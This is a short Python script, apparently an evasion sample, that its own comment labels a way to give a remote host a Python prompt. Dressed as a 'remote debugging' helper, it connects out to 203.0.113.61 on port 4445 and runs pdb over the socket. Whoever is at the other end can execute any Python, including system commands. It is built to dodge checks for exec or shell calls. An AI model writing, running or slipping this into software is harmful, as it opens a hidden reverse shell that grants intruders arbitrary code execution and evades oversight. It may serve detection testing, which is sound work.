# Evasion: gives a remote host a Python prompt. A "remote debugging" helper
# connects out and starts pdb with the socket's file as stdin and stdout:
# whoever is at the other end types any Python (import os; os.system(...))
# and the debugger runs it. No exec, no shell in the program.
import pdb
import socket


def remote_debug(host="203.0.113.61", port=4445):
    conn = socket.create_connection((host, port))
    stream = conn.makefile("rw", buffering=1)
    debugger = pdb.Pdb(stdin=stream, stdout=stream)
    debugger.use_rawinput = False
    debugger.set_trace()


if __name__ == "__main__":
    remote_debug()
